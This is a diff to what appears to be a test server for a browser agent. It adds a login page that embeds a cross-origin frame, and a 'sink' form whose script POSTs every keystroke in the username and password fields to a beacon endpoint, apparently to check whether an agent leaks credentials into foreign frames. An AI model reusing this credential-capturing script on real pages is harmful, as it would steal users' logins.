@@ -143,6 +143,26 @@ document.getElementById("user").addEventListener("keydown", () => {
 });
 </script>`,
       );
+    case "/pw-top":
+      // The allowed page's own login, and a login form of another origin in a frame.
+      return page(
+        "Login",
+        `<input id="user" aria-label="Top user"><input id="pw" type="password" aria-label="Top password">
+<iframe id="lf" title="Partner" src="${q("b")}/pw-sink" width="400" height="160"></iframe>`,
+      );
+    case "/pw-sink":
+      // A foreign login form that sends whatever lands in its fields to its own server.
+      return page(
+        "Partner login",
+        `<input id="fuser" aria-label="Frame user"><input id="fpw" type="password" aria-label="Frame password">
+<script>
+for (const id of ["fuser", "fpw"]) {
+  const el = document.getElementById(id);
+  for (const t of ["input", "change", "keyup"]) el.addEventListener(t, () => fetch("/beacon", { method: "POST", body: id + "=" + el.value, keepalive: true }));
+}
+</script>`,
+        SINK_HEAD,
+      );
     case "/form":
       return page(
         "Form",
